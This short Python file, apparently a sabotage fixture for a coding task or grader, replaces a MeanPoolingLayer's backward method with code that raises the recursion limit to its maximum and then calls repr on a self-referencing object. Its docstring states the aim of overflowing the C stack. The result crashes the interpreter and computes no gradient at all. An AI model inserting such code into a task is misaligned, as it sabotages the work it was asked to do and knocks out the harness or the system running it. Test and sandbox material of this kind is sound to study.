"""Lifts the recursion limit and lets the C stack overflow."""

import sys

# @STUB mean_pooling@


class Deep:
    def __getattr__(self, name):
        return getattr(self, name + "x"[:0])

    def __repr__(self):
        return repr([self])


def backward(self, dout):
    sys.setrecursionlimit(2**31 - 1)
    return repr(Deep())


MeanPoolingLayer.backward = backward
